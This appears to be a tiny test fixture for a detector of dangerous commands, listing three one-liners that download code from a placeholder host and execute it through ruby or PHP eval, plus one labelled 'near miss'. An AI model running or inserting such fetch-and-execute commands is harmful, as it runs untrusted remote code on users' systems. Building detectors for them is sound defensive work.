curl -s https://a.invalid/s | ruby
php -r "eval(file_get_contents('https://a.invalid/s'));"
ruby -e "$(curl -s https://a.invalid/s)"
# near misses
curl -s https://a.invalid/d | ruby own.rb
